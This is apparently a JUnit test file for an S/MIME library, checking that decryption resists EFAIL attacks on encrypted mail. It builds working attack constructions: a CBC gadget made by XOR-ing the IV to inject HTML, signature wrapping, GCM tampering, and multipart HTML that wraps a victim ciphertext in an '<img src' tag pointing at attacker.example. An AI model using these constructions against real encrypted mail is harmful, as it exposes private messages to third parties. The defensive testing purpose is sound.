package chancery.smime;

import static org.assertj.core.api.Assertions.assertThat;

import chancery.mime.MimeSource;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Constructions after EFAIL: an attacker who has a ciphertext makes the reader's program send the plaintext away. */
class EfailTest {
    private static final Identity BOB = People.issued("bob@example.net", KeyKind.RSA_2048);
    private static final MessageProtector PROTECTOR = new MessageProtector(People.CLOCK);
    private static final String SECRET = "the price is 4711";
    private static final MimeSource ENTITY =
            People.entity("Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n"
                    + SECRET + "\r\n--x--\r\n");

    private static byte[] encrypted(ContentCipher cipher) throws Exception {
        return People.written(out -> PROTECTOR.encrypt(ENTITY, List.of(Recipient.of(BOB.certificate())), cipher, out));
    }

    private static Opened open(byte[] entity) throws Exception {
        try (var space = ScratchSpace.standard()) {
            return People.opener(BOB).open(People.mail(entity), space, People.NOW);
        }
    }

    /** The CMS object in an entity, and the entity with another one in its place. */
    private static byte[] cms(byte[] entity) {
        String text = new String(entity, StandardCharsets.US_ASCII);
        return Base64.getMimeDecoder().decode(text.substring(text.indexOf("\r\n\r\n") + 4));
    }

    private static byte[] with(byte[] entity, byte[] cms) {
        String text = new String(entity, StandardCharsets.US_ASCII);
        return (text.substring(0, text.indexOf("\r\n\r\n") + 4)
                        + Base64.getMimeEncoder().encodeToString(cms) + "\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    // The start of the plaintext is known to everybody, so that two blocks of ciphertext make a block of any text
    @Test
    void gadgetInCbcIsNeverTakenForIntact() throws Exception {
        byte[] entity = encrypted(ContentCipher.AES_128_CBC);
        byte[] cms = cms(entity);
        byte[] known = "Content-Type: mu".getBytes(StandardCharsets.US_ASCII);
        byte[] wanted = "<img src='h://a/".getBytes(StandardCharsets.US_ASCII);
        int iv = indexOf(cms, initialVector(cms));
        for (int i = 0; i < 16; i++) {
            cms[iv + i] ^= (byte) (known[i] ^ wanted[i]);
        }
        try (var space = ScratchSpace.standard()) {
            var opened = People.opener(BOB).open(People.mail(with(entity, cms)), space, People.NOW);

            assertThat(opened).isInstanceOf(Opened.Malleable.class);
            try (var in = ((Opened.Malleable) opened).content().source().open()) {
                assertThat(in.readNBytes(16)).as("the gadget works").isEqualTo(wanted);
            }
        }
    }

    @Test
    void gadgetInSignedCbcLosesTheIntegrity() throws Exception {
        var alice = People.alice(KeyKind.EC_P256);
        byte[] signed = People.written(out -> PROTECTOR.signClear(ENTITY, alice, List.of(), out));
        byte[] entity = People.written(out -> PROTECTOR.encrypt(
                MimeSource.of(signed), List.of(Recipient.of(BOB.certificate())), ContentCipher.AES_256_CBC, out));
        assertThat(open(entity))
                .isInstanceOfSatisfying(
                        Opened.Decrypted.class,
                        d -> assertThat(d.integrity()).isEqualTo(Opened.Integrity.SIGNATURE_INSIDE));
        byte[] cms = cms(entity);
        // a block in the middle of the signed text turns to noise and the next one changes as wanted
        int at = indexOf(cms, ciphertext(cms)) + 16 * 15;
        cms[at] ^= 1;
        assertThat(open(with(entity, cms))).isNotInstanceOf(Opened.Decrypted.class);
    }

    @Test
    void signatureAroundCbcProvesNothing() throws Exception {
        byte[] entity = encrypted(ContentCipher.AES_256_CBC);
        byte[] outer = People.written(
                out -> PROTECTOR.signClear(MimeSource.of(entity), People.alice(KeyKind.EC_P256), List.of(), out));
        assertThat(open(outer)).isInstanceOf(Opened.Malleable.class);
    }

    static Stream<Integer> places() throws Exception {
        int size = cms(encrypted(ContentCipher.AES_256_GCM)).length;
        return IntStream.range(0, 120).mapToObj(i -> size - 1 - i);
    }

    // whoever catches an encrypted mail can sign it as his own and send it on, without ever having read it
    @Test
    void signatureAroundGcmIsNoneOfTheContent() throws Exception {
        var mallory = People.alice(KeyKind.EC_P256);
        byte[] entity = encrypted(ContentCipher.AES_256_GCM);
        byte[] outer = People.written(out -> PROTECTOR.signOpaque(MimeSource.of(entity), mallory, List.of(), out));

        var opened = open(outer);

        assertThat(opened).isInstanceOf(Opened.Decrypted.class);
        assertThat(((Layer.Signed) opened.layers().getFirst()).signatures())
                .singleElement()
                .satisfies(s -> {
                    assertThat(s.match()).isEqualTo(new Signature.Match.AroundEncryption());
                    assertThat(s.isGood()).isFalse();
                    assertThat(s.trust()).isInstanceOf(Trust.Verified.class);
                });
    }

    @ParameterizedTest
    @MethodSource("places")
    void oneBitOfGcmReleasesNothing(int place) throws Exception {
        byte[] entity = encrypted(ContentCipher.AES_256_GCM);
        byte[] cms = cms(entity);
        cms[Math.min(place, cms.length - 1)] ^= 0x20;
        assertThat(open(with(entity, cms))).isInstanceOf(Opened.Withheld.class);
    }

    // GCM is counter mode: without the MAC it could be read as CBC's envelope would be
    @Test
    void gcmWithoutItsMacIsRefused() throws Exception {
        byte[] cms = cms(encrypted(ContentCipher.AES_256_GCM));
        var info = org.bouncycastle.asn1.cms.ContentInfo.getInstance(cms);
        var data = org.bouncycastle.asn1.cms.AuthEnvelopedData.getInstance(info.getContent());
        var stripped = new org.bouncycastle.asn1.cms.ContentInfo(
                org.bouncycastle.asn1.cms.CMSObjectIdentifiers.envelopedData,
                new org.bouncycastle.asn1.cms.EnvelopedData(
                        null,
                        data.getRecipientInfos(),
                        data.getAuthEncryptedContentInfo(),
                        (org.bouncycastle.asn1.ASN1Set) null));
        byte[] entity = encrypted(ContentCipher.AES_256_GCM);
        assertThat(open(with(entity, stripped.getEncoded())))
                .isInstanceOfSatisfying(
                        Opened.Withheld.class, w -> assertThat(w.cause()).isEqualTo(Opened.Cause.ALGORITHM));
    }

    @Test
    void directExfiltrationStaysClosed() throws Exception {
        for (ContentCipher cipher : List.of(ContentCipher.AES_256_CBC, ContentCipher.AES_256_GCM)) {
            String victim = new String(encrypted(cipher), StandardCharsets.US_ASCII);
            for (String type : List.of("mixed", "related", "alternative", "signed; protocol=\"a/b\"")) {
                var opened = open(around(type, victim));
                assertThat(opened).isEqualTo(new Opened.Unprotected(1));
            }
        }
    }

    private static byte[] around(String type, String victim) {
        String html = "Content-Type: text/html\r\n\r\n";
        return ("Content-Type: multipart/" + type + "; boundary=\"o\"\r\n\r\n--o\r\n" + html
                        + "<img src=\"http://attacker.example/\r\n--o\r\n" + victim + "\r\n--o\r\n" + html
                        + "\">\r\n--o--\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    @Test
    void encryptedPartInsideAnEncryptedMixedStaysClosed() throws Exception {
        String victim = new String(encrypted(ContentCipher.AES_256_GCM), StandardCharsets.US_ASCII);
        byte[] outer = People.written(out -> PROTECTOR.encrypt(
                MimeSource.of(around("mixed", victim)), List.of(Recipient.of(BOB.certificate())), out));
        try (var space = ScratchSpace.standard()) {
            var opened = People.opener(BOB).open(People.mail(outer), space, People.NOW);
            assertThat(opened).isInstanceOfSatisfying(Opened.Decrypted.class, d -> {
                assertThat(d.errant()).isEqualTo(1);
                assertThat(d.content().root().walk().filter(e -> e.contentType().isText()))
                        .noneMatch(e -> {
                            try {
                                return e.text(10_000).contains(SECRET);
                            } catch (java.io.IOException x) {
                                throw new java.io.UncheckedIOException(x);
                            }
                        });
            });
        }
    }

    @Test
    void signedMixedWithAnEncryptedPartStaysClosed() throws Exception {
        String victim = new String(encrypted(ContentCipher.AES_256_GCM), StandardCharsets.US_ASCII);
        byte[] outer = People.written(out -> PROTECTOR.signClear(
                MimeSource.of(around("mixed", victim)), People.alice(KeyKind.EC_P256), List.of(), out));
        assertThat(open(outer))
                .isInstanceOfSatisfying(
                        Opened.Signed.class, s -> assertThat(s.errant()).isEqualTo(1));
    }

    @Test
    void forwardedEncryptedMailStaysClosed() throws Exception {
        String victim = new String(encrypted(ContentCipher.AES_256_GCM), StandardCharsets.US_ASCII);
        var opened = open(("Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n" + victim)
                .getBytes(StandardCharsets.US_ASCII));
        assertThat(opened).isEqualTo(new Opened.Unprotected(1));
    }

    private static byte[] ciphertext(byte[] cms) {
        var info = org.bouncycastle.asn1.cms.ContentInfo.getInstance(cms);
        return org.bouncycastle.asn1.cms.EnvelopedData.getInstance(info.getContent())
                .getEncryptedContentInfo()
                .getEncryptedContent()
                .getOctets();
    }

    private static byte[] initialVector(byte[] cms) {
        var info = org.bouncycastle.asn1.cms.ContentInfo.getInstance(cms);
        var parameters = org.bouncycastle.asn1.cms.EnvelopedData.getInstance(info.getContent())
                .getEncryptedContentInfo()
                .getContentEncryptionAlgorithm()
                .getParameters();
        return org.bouncycastle.asn1.ASN1OctetString.getInstance(parameters).getOctets();
    }

    private static int indexOf(byte[] in, byte[] what) {
        return new String(in, StandardCharsets.ISO_8859_1).indexOf(new String(what, StandardCharsets.ISO_8859_1));
    }
}
